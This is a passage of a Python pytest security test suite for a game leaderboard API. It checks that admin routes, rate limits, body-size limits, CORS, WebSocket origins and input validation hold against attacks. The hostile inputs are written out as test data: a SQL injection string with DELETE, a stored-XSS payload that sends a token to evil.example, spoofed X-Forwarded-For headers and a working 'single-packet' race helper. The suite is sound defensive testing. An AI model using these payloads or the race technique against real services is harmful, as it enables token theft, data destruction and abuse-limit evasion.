    ("route", "body"),
    [
        pytest.param(
            "adjust", {"points": 5, "reason": "goodwill", "userId": "OTHER"}, id="adjust-userId"
        ),
        pytest.param(
            "adjust", {"points": 5, "reason": "goodwill", "adminId": "x"}, id="adjust-adminId"
        ),
        pytest.param("reset", {"reason": "clean slate", "score": 1_000_000}, id="reset-score"),
        pytest.param("suspend", {"reason": "cheating", "suspendedBy": "rule:x"}, id="suspend-by"),
        pytest.param("unsuspend", {"reason": "appeal", "by": "other-admin"}, id="unsuspend-by"),
        pytest.param("resolve", {"reason": "fine", "resolvedBy": "other-admin"}, id="resolve-by"),
    ],
)
async def test_extra_fields_in_admin_bodies_are_refused(
    api: Api, route: str, body: dict[str, Any]
) -> None:
    """Even an admin cannot smuggle a different target or forge the audit's author."""
    victim, other = new_user(), new_user()
    await api.score(victim)
    before = await api.leaderboard()
    path = (
        f"/api/admin/flags/{ZERO_UUID}/resolve"
        if route == "resolve"
        else f"/api/admin/users/{victim}/{route}"
    )
    payload = {k: (other if v == "OTHER" else v) for k, v in body.items()}
    response = await api.client.post(path, json=payload, headers=bearer(admin_token()))
    await assert_refused(api, response, 400, "validation_error", before)
    history = await history_of(api, victim)
    assert (history["score"], history["suspended"], len(history["updates"])) == (10, False, 1)


# =========================================================================== flooding


def _policy(response: httpx.Response, name: str, quota: int, window: int) -> None:
    """The 429 carries Retry-After and the IETF draft RateLimit-Policy/RateLimit headers."""
    retry_after = int(response.headers["retry-after"])
    assert 1 <= retry_after <= window
    assert response.headers["ratelimit-policy"] == f'"{name}";q={quota};w={window}'
    assert re.fullmatch(rf'"{name}";r=0;t=\d+', response.headers["ratelimit"])


async def test_a_burst_of_updates_is_cut_off_at_the_per_user_limit(app_with: AppFactory) -> None:
    async with app_with(rate_limit_updates="3/minute") as api:
        bot = new_user()
        tickets = [forge_ticket(bot) for _ in range(4)]
        for ticket in tickets[:3]:
            assert (await api.complete(bot, ticket)).status_code == 200
        before = await api.leaderboard()
        response = await api.complete(bot, tickets[3])
        await assert_refused(api, response, 429, "rate_limited", before)
        _policy(response, "updates", 3, 60)
        assert [(e["userId"], e["score"]) for e in before] == [(bot, 30)]


async def test_fresh_tokens_for_the_same_user_do_not_reset_the_per_user_limit(
    app_with: AppFactory,
) -> None:
    async with app_with(rate_limit_updates="2/minute") as api:
        bot = new_user()
        for _ in range(2):
            assert (await api.complete(bot, forge_ticket(bot))).status_code == 200
        before = await api.leaderboard()
        for token in (
            fresh_token(bot),
            fresh_token(bot, username="another name"),
            fresh_token(bot, scopes=("scores:write",)),
        ):
            response = await post_update(api, forge_ticket(bot), token)
            await assert_refused(api, response, 429, "rate_limited", before)
            _policy(response, "updates", 2, 60)


async def test_many_accounts_from_one_address_run_into_the_per_address_limit(
    app_with: AppFactory,
) -> None:
    """Sybil accounts share the attacker's address: the per-IP limit counts them together."""
    # In-process, every request comes from "testclient": keep this address's window in this
    # app's memory, so that another run within the minute cannot share it through Redis.
    async with app_with(rate_limit_ip="6/minute", rate_limit_storage="memory://") as api:
        sybils = [new_user() for _ in range(7)]
        for sybil in sybils[:6]:
            assert (await api.complete(sybil, forge_ticket(sybil))).status_code == 200
        response = await api.complete(sybils[6], forge_ticket(sybils[6]))
        assert_problem(response, 429, "rate_limited")
        _policy(response, "ip", 6, 60)
        # The board cannot be read over HTTP now (same address): look in the database.
        assert await stored_at(database_of(api), sybils[6]) == (None, [])
        assert await stored_at(database_of(api), sybils[0]) == (10, [(10, None)])


@pytest.mark.slow
async def test_rotating_x_forwarded_for_does_not_reset_the_per_address_limit(
    start_server: StartServer, sqlite_url: str
) -> None:
    """No trusted proxy: X-Forwarded-For is the client's own word and is ignored, for the
    limits and for the audit trail alike."""
    server = start_server(SCOREBOARD_RATE_LIMIT_IP="5/minute")
    attacker = new_user()
    token = make_token(attacker)
    async with real_client(server) as client:
        responses = [
            await client.post(
                UPDATE,
                json={"actionId": forge_ticket(attacker), "timestamp": now_iso()},
                headers={**bearer(token), "X-Forwarded-For": f"203.0.113.{i}"},
            )
            for i in range(8)
        ]
    assert [r.status_code for r in responses] == [200] * 5 + [429] * 3
    for response in responses[5:]:
        assert_problem(response, 429, "rate_limited")
        _policy(response, "ip", 5, 60)
    assert all("server" not in r.headers for r in responses)
    assert await stored_at(sqlite_url, attacker) == (50, [(10, "127.0.0.1")] * 5)
    clean_log(server)


@pytest.mark.slow
async def test_x_forwarded_for_is_believed_only_from_a_trusted_proxy(
    start_server: StartServer, sqlite_url: str
) -> None:
    """Behind a trusted proxy each forwarded client has its own limit and audit address; a
    client that prepends its own X-Forwarded-For is still counted by its real address."""
    server = start_server(
        SCOREBOARD_RATE_LIMIT_IP="5/minute", SCOREBOARD_TRUSTED_PROXIES='["127.0.0.1"]'
    )
    player = new_user()
    token = make_token(player)

    async def update(forwarded_for: str) -> httpx.Response:
        return await client.post(
            UPDATE,
            json={"actionId": forge_ticket(player), "timestamp": now_iso()},
            headers={**bearer(token), "X-Forwarded-For": forwarded_for},
        )

    async with real_client(server) as client:
        rotating = [await update(f"198.51.100.{i}") for i in range(1, 9)]
        assert [r.status_code for r in rotating] == [200] * 8
        one_client = [await update("192.0.2.9") for _ in range(5)]
        assert [r.status_code for r in one_client] == [200] * 5
        over = await update("192.0.2.9")
        assert_problem(over, 429, "rate_limited")
        _policy(over, "ip", 5, 60)
        spoofed = await update("10.9.8.7, 192.0.2.9")  # the proxy appended the real address
        assert_problem(spoofed, 429, "rate_limited")
    score, audit = await stored_at(sqlite_url, player)
    assert score == 130
    assert sorted(ip for _, ip in audit if ip) == sorted(
        [f"198.51.100.{i}" for i in range(1, 9)] + ["192.0.2.9"] * 5
    )
    clean_log(server)


async def test_a_bot_completing_actions_faster_than_the_rules_allow_is_blocked_and_flagged(
    app_with: AppFactory,
) -> None:
    """Scripted play, one action after another; a human next to it is untouched."""
    rules = {"actions_per_minute": {"limit": 3, "window": 60, "policy": "block"}}
    async with app_with(abuse_rules=rules) as api:
        bot, human = new_user(), new_user()
        for _ in range(3):
            assert (await api.complete(bot, forge_ticket(bot))).status_code == 200
        before = await api.leaderboard()
        response = await api.complete(bot, forge_ticket(bot))
        body = await assert_refused(api, response, 429, "velocity_exceeded", before)
        assert body["rule"] == "actions_per_minute"
        assert int(response.headers["retry-after"]) == 60
        assert len(await flags_of(api, bot, "actions_per_minute")) == 1
        assert (await api.complete(human, forge_ticket(human))).status_code == 200


async def last_byte_sync(
    server: ServerProcess, path: str, bodies: list[bytes], token: str
) -> list[tuple[int, dict[str, Any]]]:
    """The "single-packet" race: every request is sent but its last byte, then all the last
    bytes go out together, so the server sees every request complete in the same instant."""
    streams = [await asyncio.open_connection("127.0.0.1", server.port) for _ in bodies]
    requests = [
        (
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\n"
            f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        ).encode()
        + body
        for body in bodies
    ]
    for (_, writer), request in zip(streams, requests, strict=True):
        writer.write(request[:-1])
        await writer.drain()
    await asyncio.sleep(0.3)
    for (_, writer), request in zip(streams, requests, strict=True):
        writer.write(request[-1:])
    await asyncio.gather(*(writer.drain() for _, writer in streams))
    results: list[tuple[int, dict[str, Any]]] = []
    for reader, writer in streams:
        raw = await asyncio.wait_for(reader.read(), 30)
        writer.close()
        head, _, payload = raw.partition(b"\r\n\r\n")
        results.append((int(head.split()[1]), json.loads(payload)))
    return results


@pytest.mark.slow
async def test_a_bot_firing_completions_simultaneously_cannot_beat_the_velocity_block(
    start_server: StartServer, shape: Shape
) -> None:
    server = start_server(
        shape.database_url,
        SCOREBOARD_ABUSE_RULES='{"actions_per_minute": {"limit": 3, "policy": "block"}}',
        **shape.env,
    )
    bot = new_user()
    bodies = [
        json.dumps({"actionId": forge_ticket(bot), "timestamp": now_iso()}).encode()
        for _ in range(30)
    ]
    results = await last_byte_sync(server, UPDATE, bodies, make_token(bot))
    statuses = sorted(status for status, _ in results)
    score, _ = await stored_at(shape.database_url, bot)
    assert (statuses, score) == ([200] * 3 + [429] * 27, 30)
    assert {body["code"] for status, body in results if status == 429} == {"velocity_exceeded"}


@pytest.mark.slow
async def test_the_per_user_limit_holds_against_a_single_packet_race(
    start_server: StartServer, shape: Shape
) -> None:
    """The same simultaneous burst that beats the velocity rule: the rate limiter counts
    atomically (in memory, or by a Redis script), so exactly the quota gets through."""
    server = start_server(shape.database_url, SCOREBOARD_RATE_LIMIT_UPDATES="3/minute", **shape.env)
    bot = new_user()
    bodies = [
        json.dumps({"actionId": forge_ticket(bot), "timestamp": now_iso()}).encode()
        for _ in range(30)
    ]
    results = await last_byte_sync(server, UPDATE, bodies, make_token(bot))
    assert sorted(status for status, _ in results) == [200] * 3 + [429] * 27
    assert {body["code"] for status, body in results if status == 429} == {"rate_limited"}
    assert await stored_at(shape.database_url, bot) == (30, [(10, "127.0.0.1")] * 3)
    clean_log(server)


async def test_a_suspended_cheater_cannot_score(api: Api) -> None:
    cheater = new_user()
    await api.score(cheater)
    suspended = await api.client.post(
        f"/api/admin/users/{cheater}/suspend",
        json={"reason": "caught botting"},
        headers=bearer(admin_token()),
    )
    assert suspended.status_code == 200, suspended.text
    before = await api.leaderboard()
    response = await api.complete(cheater, forge_ticket(cheater))
    await assert_refused(api, response, 403, "user_suspended", before)
    response = await post_update(api, forge_ticket(cheater), fresh_token(cheater))
    await assert_refused(api, response, 403, "user_suspended", before)


# =========================================================================== admin routes


def _admin_routes(app: Litestar, victim: str) -> list[tuple[str, str, dict[str, Any] | None]]:
    """Every /api/admin route the app really has, with its parameters filled in."""
    routes: list[tuple[str, str, dict[str, Any] | None]] = []
    for route in app.routes:
        if not (isinstance(route, HTTPRoute) and route.path.startswith("/api/admin")):
            continue
        path = re.sub(
            r"\{(\w+):\w+\}",
            lambda m: victim if "user" in m.group(1) else ZERO_UUID,
            route.path,
        )
        for method in sorted(route.methods - {"OPTIONS", "HEAD"}):
            body = None
            if method == "POST":
                body = {"reason": "i want points", "points": 1_000_000}
                if not path.endswith("/adjust"):
                    body.pop("points")
            routes.append((method, path, body))
    return routes


async def _hit_every_admin_route(
    api: Api, headers: dict[str, str], status: int, code: str
) -> list[str]:
    victim = new_user()
    await api.score(victim)
    before = await api.leaderboard()
    app: Litestar = api.client.app  # type: ignore[attr-defined]
    routes = _admin_routes(app, victim)
    for method, path, body in routes:
        response = await api.client.request(method, path, json=body, headers=headers)
        problem = assert_problem(response, status, code)
        if code == "insufficient_scope":
            assert problem["requiredScope"] == "scores:admin"
    assert await api.leaderboard() == before
    history = await history_of(api, victim)
    assert (history["score"], history["suspended"], len(history["updates"])) == (10, False, 1)
    return [f"{method} {path.replace(victim, '{user}')}" for method, path, _ in routes]


async def test_every_admin_route_refuses_a_player_token(api: Api) -> None:
    player = make_token(new_user(), scopes=("leaderboard:read", "scores:write", "actions:issue"))
    seen = await _hit_every_admin_route(api, bearer(player), 403, "insufficient_scope")
    assert {
        "GET /api/admin/flags",
        f"POST /api/admin/flags/{ZERO_UUID}/resolve",
        "GET /api/admin/users/{user}/history",
        "POST /api/admin/users/{user}/adjust",
        "POST /api/admin/users/{user}/reset",
        "POST /api/admin/users/{user}/suspend",
        "POST /api/admin/users/{user}/unsuspend",
    } <= set(seen)


async def test_every_admin_route_refuses_an_anonymous_caller(api: Api) -> None:
    seen = await _hit_every_admin_route(api, {}, 401, "invalid_token")
    assert len(seen) >= 7


@pytest.mark.parametrize(
    "claims",
    [
        pytest.param({"scope": "scores:admin:read leaderboard:read"}, id="prefixed"),
        pytest.param({"scope": "SCORES:ADMIN"}, id="uppercase"),
        pytest.param({"scope": "scores:write,scores:admin"}, id="comma-joined"),
        pytest.param({"scope": ["scores:admin"]}, id="scope-as-list"),
        pytest.param({"scope": "scores:write", "scp": "scores:admin"}, id="scp-claim"),
        pytest.param({"scope": "scores:write", "roles": ["admin"], "admin": True}, id="roles"),
    ],
)
async def test_lookalike_admin_scopes_grant_nothing(api: Api, claims: dict[str, Any]) -> None:
    victim = new_user()
    await api.score(victim)
    before = await api.leaderboard()
    token = make_token(new_user(), **claims)
    response = await api.client.post(
        f"/api/admin/users/{victim}/adjust",
        json={"points": 1_000_000, "reason": "promote myself"},
        headers=bearer(token),
    )
    await assert_refused(api, response, 403, "insufficient_scope", before)


@pytest.mark.parametrize(
    ("path", "status", "code"),
    [
        pytest.param("/api/admin/flags/", 403, "insufficient_scope", id="trailing-slash"),
        pytest.param("/api//admin/flags", 403, "insufficient_scope", id="double-slash"),
        pytest.param("/api/%61dmin/flags", 403, "insufficient_scope", id="percent-encoded"),
        pytest.param("/api/admin%2Fflags", 403, "insufficient_scope", id="encoded-slash"),
        pytest.param("/API/ADMIN/FLAGS", 404, "not_found", id="uppercase"),
    ],
)
async def test_path_tricks_do_not_reach_an_admin_route_unguarded(
    api: Api, path: str, status: int, code: str
) -> None:
    before = await api.leaderboard()
    response = await api.client.get(path, headers=bearer(api.token(new_user())))
    await assert_refused(api, response, status, code, before)


# =========================================================================== bodies and input


@pytest.mark.parametrize(
    ("path", "admin"),
    [
        pytest.param(ACTIONS, False, id="issue"),
        pytest.param(UPDATE, False, id="update"),
        pytest.param("/api/admin/users/victim/adjust", True, id="admin-adjust"),
        pytest.param("/api/admin/users/victim/suspend", True, id="admin-suspend"),
    ],
)
async def test_a_megabyte_body_is_refused_with_413_on_every_json_route(
    api: Api, path: str, admin: bool
) -> None:
    before = await api.leaderboard()
    token = admin_token() if admin else api.token(new_user())
    body = json.dumps({"reason": "r" * 1_000_000, "points": 1, "type": "instant"}).encode()
    response = await api.client.post(
        path, content=body, headers={**bearer(token), "content-type": "application/json"}
    )
    await assert_refused(api, response, 413, "payload_too_large", before)


@pytest.mark.slow
async def test_a_chunked_body_without_content_length_is_cut_off_at_the_size_limit(
    start_server: StartServer, sqlite_url: str
) -> None:
    """Streaming a body with Transfer-Encoding: chunked must not dodge the size limit."""
    server = start_server()
    attacker = new_user()
    ticket = forge_ticket(attacker)

    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"actionId": "' + ticket.encode() + b'", "timestamp": "' + now_iso().encode()
        yield b'", "pad": "'
        for _ in range(64):
            yield b"p" * 1024
        yield b'"}'

    async with real_client(server) as client:
        response = await client.post(
            UPDATE,
            content=chunks(),
            headers={**bearer(make_token(attacker)), "content-type": "application/json"},
        )
        assert "content-length" not in response.request.headers
        assert response.request.headers["transfer-encoding"] == "chunked"
        assert_problem(response, 413, "payload_too_large")
        assert await Api(client).leaderboard() == []
    assert await stored_at(sqlite_url, attacker) == (None, [])
    clean_log(server)


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"],
)
async def test_a_cross_site_form_post_cannot_score(api: Api, content_type: str) -> None:
    """A form on another site can send these content types without a CORS preflight."""
    attacker = new_user()
    before = await api.leaderboard()
    body = json.dumps({"actionId": forge_ticket(attacker), "timestamp": now_iso()})
    response = await api.client.post(
        UPDATE,
        content=body.encode(),
        headers={**bearer(api.token(attacker)), "content-type": content_type},
    )
    await assert_refused(api, response, 415, "unsupported_media_type", before)


@pytest.mark.parametrize(
    ("timestamp", "status", "code"),
    [
        pytest.param("9999-12-31T23:59:59+00:00", 422, "timestamp_out_of_window", id="year-9999"),
        pytest.param("0001-01-01T00:00:00+23:59", 422, "timestamp_out_of_window", id="year-1"),
        pytest.param("9999-12-31T23:59:59-23:59", 422, "timestamp_out_of_window", id="past-max"),
        pytest.param("2026-01-01T00:00:00+99:00", 400, "validation_error", id="offset-99h"),
        pytest.param("2026-01-01T00:00:00+24:00", 400, "validation_error", id="offset-24h"),
        pytest.param("2026-02-30T00:00:00Z", 400, "validation_error", id="feb-30"),
        pytest.param("1e309", 400, "validation_error", id="overflowing-number"),
        pytest.param("NaN", 400, "validation_error", id="nan"),
        pytest.param("now\x00", 400, "validation_error", id="nul"),
    ],
)
async def test_edge_timestamps_are_refused_without_a_500(
    api: Api, timestamp: str, status: int, code: str
) -> None:
    attacker = new_user()
    before = await api.leaderboard()
    response = await post_update(
        api, forge_ticket(attacker), api.token(attacker), timestamp=timestamp
    )
    await assert_refused(api, response, status, code, before)


SQLI_USER = "x'OR'1'='1';DELETE--"


async def test_sql_in_identifiers_and_filters_is_data_not_code(api: Api) -> None:
    before = await api.leaderboard()
    issue = await api.client.post(
        ACTIONS, json={"type": "instant' OR '1'='1"}, headers=bearer(api.token(SQLI_USER))
    )
    await assert_refused(api, issue, 422, "unknown_action_type", before)
    # The quote-laden user id is a legal id: it scores its own 10 points, nothing more.
    assert (await api.score(SQLI_USER))["newScore"] == 10
    honest = new_user()
    assert (await api.score(honest))["newScore"] == 10
    assert {e["userId"]: e["score"] for e in await api.leaderboard()} == {SQLI_USER: 10, honest: 10}
    history = await history_of(api, SQLI_USER)
    assert (history["userId"], history["score"], len(history["updates"])) == (SQLI_USER, 10, 1)
    # A filter value that would match every row if it were spliced into SQL matches none.
    await post_update(api, "forged", api.token(honest))  # leaves one forged_ticket flag
    assert len(await flags_of(api, honest, "forged_ticket")) == 1
    injected = await api.client.get(
        "/api/admin/flags",
        params={"userId": "' OR '1'='1", "status": "all"},
        headers=bearer(admin_token()),
    )
    assert injected.status_code == 200
    assert injected.json() == {"flags": []}


# =========================================================================== information leaks


async def test_refusals_echo_no_token_ticket_secret_or_submitted_value(api: Api) -> None:
    attacker = new_user()
    canary = "31337-canary-31337"
    forged_token = make_token(attacker, secret="stolen-looking-secret-0123456789abcdef")
    ticket = forge_ticket(attacker, action_secret="other-action-secret-0123456789abcdefgh")
    before = await api.leaderboard()
    responses = [
        (await post_update(api, ticket, forged_token), 401, "invalid_token"),
        (await post_update(api, ticket, api.token(attacker)), 422, "invalid_action"),
        (
            await api.client.post(
                UPDATE,
                json={"actionId": ticket, "timestamp": canary, "score": canary},
                headers=bearer(api.token(attacker)),
            ),
            400,
            "validation_error",
        ),
    ]
    secrets = [forged_token, ticket, api.token(attacker), JWT_SECRET, ACTION_SECRET, canary]
    for response, status, code in responses:
        await assert_refused(api, response, status, code, before)
        for secret in secrets:
            assert secret not in response.text
        assert service_kid() not in response.text


@pytest.mark.slow
async def test_the_server_logs_no_tokens_and_sends_no_version_banner(
    start_server: StartServer,
) -> None:
    server = start_server()
    attacker = new_user()
    token = make_token(attacker)
    forged = make_token(attacker, secret="stolen-looking-secret-0123456789abcdef")
    ticket = forge_ticket(attacker)
    async with real_client(server) as client:
        api = Api(client)
        responses = [
            await client.post(
                UPDATE, json={"actionId": ticket, "timestamp": now_iso()}, headers=bearer(forged)
            ),
            await client.post(
                UPDATE,
                json={"actionId": "forged.ticket.x", "timestamp": now_iso()},
                headers=bearer(token),
            ),
            await client.get("/api/nope", headers=bearer(token)),
        ]
        assert [r.status_code for r in responses] == [401, 422, 404]
        assert await api.leaderboard() == []
    for response in responses:
        assert "server" not in response.headers
        assert "x-powered-by" not in response.headers
    log = clean_log(server)
    for secret in (token, forged, ticket, JWT_SECRET, ACTION_SECRET):
        assert secret not in log


XSS_NAME = '<img src=x onerror="fetch(`//evil.example/`+localStorage.token)">'


async def test_a_script_in_a_display_name_stays_inert_data(api: Api) -> None:
    """Stored XSS through preferred_username: the API returns it as JSON data (nosniff), and
    the page that renders names forbids inline script (it sets textContent, see page.js)."""
    attacker = new_user()
    api.tokens[attacker] = make_token(attacker, username=XSS_NAME)
    await api.score(attacker)
    board = await api.client.get("/api/leaderboard", headers=bearer(api.token("reader")))
    assert board.headers["content-type"] == "application/json"
    assert board.headers["x-content-type-options"] == "nosniff"
    assert board.json()["leaderboard"] == [
        {"userId": attacker, "username": XSS_NAME, "score": 10, "rank": 1}
    ]
    page = await api.client.get("/")
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy
    assert "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy
    before = await api.leaderboard()
    # The name cannot smuggle a second, fake entry or a score either.
    forged_entry = make_token(attacker, username='x","score":1000000,"rank":1,"userId":"y')
    response = await post_update(api, forge_ticket(attacker), forged_entry)
    assert response.status_code == 200
    assert [(e["userId"], e["score"]) for e in await api.leaderboard()] == [(attacker, 20)]
    assert len(before) == 1


async def test_openapi_recon_is_closed_when_docs_are_disabled(app_with: AppFactory) -> None:
    async with app_with(openapi=False) as api:
        before = await api.leaderboard()
        for path in ("/schema", "/schema/openapi.json", "/schema/swagger"):
            response = await api.client.get(path)
            await assert_refused(api, response, 404, "not_found", before)


async def test_a_cors_preflight_from_an_evil_origin_gets_no_grant(app_with: AppFactory) -> None:
    async with app_with(allowed_origins=["https://game.example"]) as api:
        before = await api.leaderboard()
        evil = await api.client.options(
            UPDATE,
            headers={
                "Origin": "https://evil.example",
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "authorization, content-type",
            },
        )
        assert evil.status_code == 400
        assert "access-control-allow-origin" not in evil.headers
        assert "access-control-allow-credentials" not in evil.headers
        assert await api.leaderboard() == before
        good = await api.client.options(
            UPDATE,
            headers={"Origin": "https://game.example", "Access-Control-Request-Method": "POST"},
        )
        assert good.status_code in (200, 204)
        assert good.headers["access-control-allow-origin"] == "https://game.example"


async def test_a_refused_cors_preflight_is_a_problem_document(app_with: AppFactory) -> None:
    """Was an open finding (a text/plain 400 from Litestar's CORS middleware)."""
    async with app_with(allowed_origins=["https://game.example"]) as api:
        response = await api.client.options(
            UPDATE,
            headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"},
        )
        assert response.status_code == 400
        assert response.headers["content-type"] == PROBLEM_JSON
        assert response.json()["code"] == "cors_refused"
        assert "access-control-allow-origin" not in response.headers
        allowed = await api.client.options(
            UPDATE,
            headers={"Origin": "https://game.example", "Access-Control-Request-Method": "POST"},
        )
        assert allowed.status_code == 204


async def test_refusals_from_the_auth_and_rate_limit_layers_carry_the_security_headers(
    app_with: AppFactory,
) -> None:
    # A day's window: the sliding-window counter rounds down across a window boundary, so a
    # minute's window lets a fourth request through when the minute turns mid-test.
    async with app_with(rate_limit_ip="3/day", rate_limit_storage="memory://") as api:
        handler_refusal = await api.client.post(
            ACTIONS, json={"type": "nope"}, headers=bearer(api.token("a"))
        )
        bad_token = await api.client.get("/api/leaderboard", headers=bearer("garbage"))
        unknown = await api.client.get("/api/nope")
        await api.client.get("/api/leaderboard", headers=bearer(api.token("a")))
        limited = await api.client.get("/api/leaderboard", headers=bearer(api.token("a")))
        statuses = [r.status_code for r in (handler_refusal, bad_token, unknown, limited)]
        assert statuses == [422, 401, 404, 429]
        for response in (handler_refusal, bad_token, unknown, limited):
            assert response.headers.get("x-content-type-options") == "nosniff", response.status_code
            assert response.headers.get("x-frame-options") == "DENY"
            assert response.headers.get("referrer-policy") == "no-referrer"


# =========================================================================== WebSocket


async def _outcome(ws: ClientConnection) -> tuple[str, int | None]:
    """What the server did with this connection: its first event, or its close code (a
    refusal's error event, which precedes the close, is skipped)."""
    try:
        while True:
            event = json.loads(await asyncio.wait_for(ws.recv(), 10))
            if event["type"] != "error":
                return str(event["type"]), None
    except ConnectionClosed:
        return "closed", ws.close_code


@pytest.mark.slow
async def test_websocket_origin_lookalikes_are_refused_4403(start_server: StartServer) -> None:
    """Cross-site WebSocket hijacking from origins that merely resemble the allowed one."""
    server = start_server(SCOREBOARD_ALLOWED_ORIGINS='["https://game.example"]')
    token = make_token(new_user())
    for origin in (
        "https://game.example.evil.com",
        "https://evil-game.example",
        "http://game.example",
        "https://game.example:8443",
        "https://game.example.",
        "https://GAME.EXAMPLE",
        "null",
        "https://evil.example/https://game.example",
    ):
        ws = await open_ws(server, token, origin=origin)
        assert await closed_with(ws) == (4403, "origin not allowed"), origin
    allowed = await open_ws(server, token, origin="https://game.example")
    await next_event(allowed, "connection_success")
    await allowed.close()
    async with real_client(server) as client:
        assert await Api(client).leaderboard() == []
    clean_log(server)


@pytest.mark.slow
async def test_a_ws_ticket_raced_by_ten_connections_opens_exactly_one(
    start_server: StartServer, shape: Shape
) -> None:
    """In production the race is spread over two instances sharing the ticket store."""
    servers = [start_server(shape.database_url, **shape.env)]
    if shape.name == "production":
        servers.append(start_server(shape.database_url, **shape.env))
    server = servers[0]
    async with real_client(server) as client:
        issued = await client.post("/api/ws-ticket", headers=bearer(make_token(new_user())))
    assert issued.status_code == 201, issued.text
    ticket = issued.json()["ticket"]
    sockets = await asyncio.gather(
        *(open_ws(servers[i % len(servers)], ticket=ticket) for i in range(10))
    )
    outcomes = sorted(await asyncio.gather(*(_outcome(ws) for ws in sockets)))
    assert outcomes == [("closed", 4401)] * 9 + [("connection_success", None)]
    forged = await open_ws(server, ticket=ticket[:-4] + "AAAA")
    code, reason = await closed_with(forged)
    assert code == 4401
    assert reason is not None
    assert "ticket" in reason
    for ws in sockets:
        await ws.close()
    for each in servers:
        clean_log(each)


@pytest.mark.slow
async def test_a_client_cannot_push_server_events_over_the_socket(
    start_server: StartServer,
) -> None:
    """The attacker sends the server's own event shapes; they are errors, nobody else sees
    them, the board is unchanged and the attacker's socket stays usable."""
    server = start_server()
    attacker, watcher = new_user(), new_user()
    ws = await open_ws(server, make_token(attacker))
    hello = await next_event(ws, "connection_success")
    spectator = await open_ws(server, make_token(watcher))
    await next_event(spectator, "connection_success")
    fakes: list[dict[str, Any]] = [
        {"type": "score_update", "userId": attacker, "newScore": 1_000_000, "rank": 1},
        {
            "type": "leaderboard_update",
            "version": hello["version"] + 10**12,
            "leaderboard": [{"userId": attacker, "username": "x", "score": 10**9, "rank": 1}],
            "updatedAt": now_iso(),
        },
        {"type": "update", "actionId": forge_ticket(attacker), "timestamp": now_iso()},
    ]
    for fake in fakes:
        await ws.send(json.dumps(fake))
        assert (await next_event(ws, "error"))["code"] == "unknown_message"
    with pytest.raises(TimeoutError):
        await asyncio.wait_for(spectator.recv(), 0.5)
    await ws.send(json.dumps({"type": "ping"}))
    assert await next_event(ws, "pong") == {"type": "pong"}
    async with real_client(server) as client:
        assert await Api(client).leaderboard() == []
    await ws.close()
    await spectator.close()
    clean_log(server)


@pytest.mark.slow
@pytest.mark.parametrize("shape", ["one-megabyte-frame", "fragmented-2x3000"])
async def test_an_oversize_message_closes_the_socket_1009(
    start_server: StartServer, shape: str
) -> None:
    server = start_server()
    ws = await open_ws(server, make_token(new_user()))
    await next_event(ws, "connection_success")
    message: str | list[str] = (
        "x" * 1_048_576 if shape == "one-megabyte-frame" else ["x" * 3000, "y" * 3000]
    )
    with suppress(ConnectionClosed):
        await ws.send(message)
    code, _ = await closed_with(ws)
    assert code == 1009
    async with real_client(server) as client:
        assert await Api(client).leaderboard() == []


@pytest.mark.slow
async def test_a_websocket_connect_flood_is_refused_4429_whatever_x_forwarded_for_says(
    start_server: StartServer,
) -> None:
    server = start_server(SCOREBOARD_RATE_LIMIT_WS_CONNECT="3/minute")
    token = make_token(new_user())
    opened: list[ClientConnection] = []
    for _ in range(3):
        ws = await open_ws(server, token)
        await next_event(ws, "connection_success")
        opened.append(ws)
    for i in range(3):
        flood = await connect(
            server.url.replace("http://", "ws://") + "/ws/leaderboard",
            additional_headers={**bearer(token), "X-Forwarded-For": f"203.0.113.{i}"},
        )
        code, reason = await closed_with(flood)
        assert code == 4429
        assert reason is not None
        assert "too many connection attempts" in reason
    for ws in opened:
        await ws.close()
    async with real_client(server) as client:
        assert await Api(client).leaderboard() == []
    clean_log(server)
